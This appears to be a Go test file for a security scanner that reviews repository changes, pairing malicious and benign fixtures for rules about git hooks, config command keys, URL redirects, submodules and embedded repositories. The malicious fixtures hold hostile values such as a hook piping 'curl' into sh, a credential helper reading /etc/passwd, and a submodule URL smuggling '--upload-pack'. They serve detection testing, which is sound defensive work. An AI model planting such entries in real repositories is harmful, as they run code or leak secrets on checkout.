package review

import (
	"strings"
	"testing"
)

// fx builds a changed file: old == "" && oldMode == 0 means added.
func add(p, content string) *File {
	return &File{Path: p, NewMode: ModeFile, New: []byte(content), Size: int64(len(content))}
}
func mod(p, old, cur string) *File {
	return &File{Path: p, OldMode: ModeFile, NewMode: ModeFile, Old: []byte(old), New: []byte(cur), Size: int64(len(cur))}
}
func withMode(f *File, old, cur uint32) *File { f.OldMode, f.NewMode = old, cur; return f }
func link(p, target string) *File {
	return &File{Path: p, NewMode: ModeSymlink, New: []byte(target)}
}

const lockV3 = `{
  "name": "app", "lockfileVersion": 3,
  "packages": {
    "": {"name": "app"},
    "node_modules/left-pad": {
      "version": "1.3.0",
      "resolved": "https://registry.npmjs.org/left-pad/-/left-pad-1.3.0.tgz",
      "integrity": "sha512-AAAA"
    }
  }
}`

type fixture struct {
	rule  string
	bad   bool // true: must flag; false: must not flag
	files []*File
}

func fixtures() []fixture {
	r := strings.NewReplacer
	_ = r
	return []fixture{
		// A. git internals
		{"GIT-HOOK", true, []*File{withMode(add(".git/hooks/post-checkout", "#!/bin/sh\ncurl x|sh\n"), 0, ModeExec)}},
		{"GIT-HOOK", true, []*File{withMode(add(".git/modules/lib/hooks/pre-commit", "#!/bin/sh\n"), 0, ModeExec)}},
		{"GIT-HOOK", false, []*File{add(".git/hooks/pre-commit.sample", "#!/bin/sh\n")}},
		{"GIT-CONFIG", true, []*File{mod(".git/config", "[core]\n\tbare = false\n", "[core]\n\tbare = false\n\tfsmonitor = /tmp/x\n")}},
		{"GIT-CONFIG", false, []*File{add("docs/config", "x")}},
		{"GIT-CONFIG-CMD", true, []*File{mod(".git/config", "[core]\n\tbare = false\n", "[core]\n\tbare = false\n\tfsmonitor = /tmp/x\n")}},
		{"GIT-CONFIG-CMD", true, []*File{mod(".git/config", "[core]\n", "[CORE]HooksPath=/tmp/h\n")}},
		{"GIT-CONFIG-CMD", true, []*File{mod(".git/config", "", "[alias]\n\tst = \"!sh -c 'id'\"\n")}},
		{"GIT-CONFIG-CMD", true, []*File{mod(".git/config", "", "[filter \"x\"]\n\tsmudge = ./evil\n")}},
		{"GIT-CONFIG-CMD", true, []*File{mod(".git/config", "", "[credential \"https://example.com\"]\n\thelper = !cat /etc/passwd\n")}},
		{"GIT-CONFIG-CMD", true, []*File{mod(".git/config", "[core]\n", "[core]\n\tsshCommand = ssh \\\n -o ProxyCommand=evil\n")}},
		{"GIT-CONFIG-CMD", true, []*File{add(".gitmodules", "[submodule \"x\"]\n\tpath = x\n\tupdate = !sh evil\n")}},
		// Include target: the included file carries the command key.
		{"GIT-CONFIG-CMD", true, []*File{mod(".git/config", "[core]\n", "[core]\n[include]\n\tpath = evil.inc\n"),
			add(".git/evil.inc", "[core]\n\tsshCommand = /tmp/pwn\n")}},
		{"GIT-CONFIG-CMD", true, []*File{add("vendor/lib/HEAD", "ref: refs/heads/main\n"), add("vendor/lib/config", "[core]\n\tbare = true\n\tfsmonitor = ./x\n")}},
		{"GIT-CONFIG-CMD", false, []*File{mod(".git/config", "[core]\n\tbare = false\n", "[core]\n\tbare = false\n[branch \"main\"]\n\tremote = origin\n\tmerge = refs/heads/main\n")}},
		{"GIT-CONFIG-CMD", false, []*File{mod(".git/config", "[core]\n\tfsmonitor = /x\n", "# a comment\n[core]\n\tfsmonitor = /x\n")}},
		{"GIT-CONFIG-CMD", false, []*File{mod(".git/config", "", "[core]\n\tfsmonitor = false\n[alias]\n\tst = status\n[pager]\n\tlog = false\n")}},
		{"GIT-CONFIG-CMD", false, []*File{add("notes.txt", "[core]\n\tfsmonitor = /tmp/x\n")}},
		{"GIT-INCLUDE", true, []*File{mod(".git/config", "[core]\n", "[core]\n[includeIf \"gitdir:/\"]\n\tpath = ~/x\n")}},
		{"GIT-INCLUDE", false, []*File{mod(".git/config", "[core]\n", "[core]\n\tautocrlf = input\n")}},
		{"GIT-CONFIG-REDIRECT", true, []*File{mod(".git/config", "[remote \"origin\"]\n\turl = https://github.com/a/b\n", "[remote \"origin\"]\n\turl = https://evil.example/a/b\n")}},
		{"GIT-CONFIG-REDIRECT", true, []*File{mod(".git/config", "", "[url \"https://evil/\"]\n\tinsteadOf = https://github.com/\n")}},
		{"GIT-CONFIG-REDIRECT", false, []*File{mod(".git/config", "[remote \"origin\"]\n\turl = https://github.com/a/b\n", "[remote \"origin\"]\n\turl = https://github.com/a/b\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n")}},
		{"GIT-CONFIG-TRUST", true, []*File{mod(".git/config", "", "[http]\n\tsslVerify = false\n")}},
		{"GIT-CONFIG-TRUST", true, []*File{mod(".git/config", "", "[protocol \"ext\"]\n\tallow = always\n")}},
		{"GIT-CONFIG-TRUST", false, []*File{mod(".git/config", "", "[http]\n\tsslVerify = true\n")}},
		{"GIT-CONFIG-CR", true, []*File{add(".gitmodules", "[submodule \"x\"]\n\tpath = \"x\r\"\n\turl = https://e/x\n")}},
		{"GIT-CONFIG-CR", false, []*File{add(".gitmodules", "[submodule \"x\"]\r\n\tpath = x\r\n\turl = https://e/x\r\n")}},
		{"GIT-CONFIG-INVALID", true, []*File{mod(".git/config", "[core]\n", "[core]\n\tx = \"unterminated\n")}},
		{"GIT-CONFIG-INVALID", false, []*File{mod(".git/config", "[core]\n", "[core]\n\tx = \"fine\"\n")}},
		{"GIT-ALTERNATES", true, []*File{add(".git/objects/info/alternates", "/home/agent/objs\n")}},
		{"GIT-ALTERNATES", false, []*File{add(".git/objects/pack/pack-1.idx", "x")}},
		{"GIT-COMMONDIR", true, []*File{add(".git/commondir", "/elsewhere/.git\n")}},
		{"GIT-COMMONDIR", false, []*File{mod(".git/description", "a", "b")}},
		{"GIT-INFO-ATTRIBUTES", true, []*File{add(".git/info/attributes", "* filter=x\n")}},
		{"GIT-INFO-ATTRIBUTES", false, []*File{add("info/attributes", "x\n")}},
		{"GIT-INFO-EXCLUDE", true, []*File{mod(".git/info/exclude", "# x\n", "# x\n.vscode/\n")}},
		{"GIT-INFO-EXCLUDE", false, []*File{mod(".gitignore", "", "dist/\n")}},
		{"GIT-INTERNAL", true, []*File{mod(".git/description", "a", "b")}},
		{"GIT-INTERNAL", false, []*File{mod(".git/config", "a", "b")}},
		{"GIT-ATTR-DRIVER", true, []*File{mod(".gitattributes", "*.go text\n", "*.go text\n*.txt filter=evil\n")}},
		{"GIT-ATTR-ENCODING", true, []*File{mod(".gitattributes", "*.go text\n", "*.go text\npackage.json working-tree-encoding=IBM037\n")}},
		{"GIT-ATTR-ENCODING", false, []*File{mod(".gitattributes", "", "*.go text eol=lf\n*.png binary\n")}},
		{"GIT-ATTR-DRIVER", false, []*File{mod(".gitattributes", "", "*.go diff=golang\n*.psd filter=lfs diff=lfs merge=lfs -text\n*.lock merge=binary\n")}},
		{"GITMODULES", true, []*File{add(".gitmodules", "[submodule \"lib\"]\n\tpath = lib\n\turl = https://github.com/x/lib\n")}},
		{"GITMODULES", false, []*File{mod(".gitmodules", "[submodule \"lib\"]\n\tpath = lib\n", "# comment\n[submodule \"lib\"]\n\tpath = lib\n")}},
		{"GITMODULES-PATH", true, []*File{add(".gitmodules", "[submodule \"../../.git/modules/x\"]\n\tpath = x\n\turl = https://e/x\n")}},
		{"GITMODULES-PATH", true, []*File{add(".gitmodules", "[submodule \"x\"]\n\tpath = x\n\turl = --upload-pack=touch /tmp/pwn\n")}},
		{"GITMODULES-PATH", false, []*File{add(".gitmodules", "[submodule \"lib\"]\n\tpath = third_party/lib\n\turl = ../lib.git\n")}},
		{"LFSCONFIG", true, []*File{add(".lfsconfig", "[lfs]\n\turl = https://evil/\n")}},
		{"LFSCONFIG", false, []*File{add("docs/lfs.md", "x")}},
		{"GIT-EMBEDDED", true, []*File{add("sub/.GIT/hooks/post-checkout", "#!/bin/sh\n")}},
		{"GIT-EMBEDDED", true, []*File{add("sub/GIT~1/config", "x")}},
		{"GIT-EMBEDDED", true, []*File{add(".g\u200cit/config", "x")}},
		{"GIT-EMBEDDED", false, []*File{add(".github/workflows/x.txt", "x"), add("gitdocs/a.md", "x"), mod(".git/description", "a", "b")}},
		{"GIT-BARE-REPO", true, []*File{add("vendor/lib/HEAD", "ref: refs/heads/main\n"), add("vendor/lib/config", "[core]\n\tbare = true\n")}},
		// history4/03: HEAD with a commondir takes config from there, and
		// config.worktree beside HEAD once the common config turns it on.
		{"GIT-BARE-REPO", true, []*File{add("sub/HEAD", "ref: refs/heads/main\n"), add("sub/commondir", "../c\n"),
			add("sub/config.worktree", "[core]\n\tworktree = ..\n\tfsmonitor = touch /tmp/x\n"), add("c/config", "[extensions]\n\tworktreeConfig = true\n")}},
		{"GIT-BARE-REPO", false, []*File{add("docs/HEAD.md", "# head\n"), add("docs/commondir", "../c\n")}},
		{"GIT-BARE-REPO", false, []*File{add("app/config", "port=1\n")}},
		{"GIT-SUBMODULE-COMMIT", true, []*File{{Path: "lib", NewMode: ModeGitlink, New: []byte("0123")}}},
		{"GIT-SUBMODULE-COMMIT", false, []*File{add("lib.go", "package lib\n")}},
	}
}

func TestRulesFixtures(t *testing.T) {
	all := append(append(append(append(append(fixtures(), fixturesB()...), fixturesCDE()...), fixturesFG()...), fixturesEco()...), fixturesAutorun()...)
	all = append(all, fixtures28()...)
	all = append(all, fixturesLongtail()...)
	bad, good := map[string]int{}, map[string]int{}
	for i, fx := range all {
		reps := Scan(fx.files)
		hit := false
		var got []string
		for _, r := range reps {
			for _, f := range r.Findings {
				got = append(got, r.File.Path+":"+f.Rule)
				if f.Rule == fx.rule {
					hit = true
				}
			}
		}
		if hit != fx.bad {
			t.Errorf("fixture %d (%s, bad=%v, %s): flagged=%v; findings %v", i, fx.rule, fx.bad, fx.files[0].Path, hit, got)
		}
		if fx.bad {
			bad[fx.rule]++
		} else {
			good[fx.rule]++
		}
	}
	for _, r := range Rules() {
		if bad[r.ID] == 0 || good[r.ID] == 0 {
			t.Errorf("rule %s needs at least one malicious and one benign fixture (have %d, %d)", r.ID, bad[r.ID], good[r.ID])
		}
		if r.Reason == "" || !strings.HasSuffix(r.Reason, ".") || r.Match == nil {
			t.Errorf("rule %s: reason must be one sentence and a matcher set", r.ID)
		}
	}
	seen := map[string]bool{}
	for _, r := range Rules() {
		if seen[r.ID] {
			t.Errorf("duplicate rule ID %s", r.ID)
		}
		seen[r.ID] = true
	}
}
